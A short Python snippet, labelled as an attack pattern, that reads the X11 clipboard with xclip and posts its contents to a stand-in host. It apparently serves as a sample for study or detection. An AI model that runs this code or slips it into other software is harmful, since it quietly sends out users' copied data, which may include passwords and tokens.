# Attack pattern: X11 clipboard read with xclip -o and sent out with urllib.
import subprocess
import urllib.request


def sample():
    text = subprocess.run(["xclip", "-selection", "clipboard", "-o"], capture_output=True).stdout
    urllib.request.urlopen("https://clip.example.invalid/x", data=text, timeout=5)
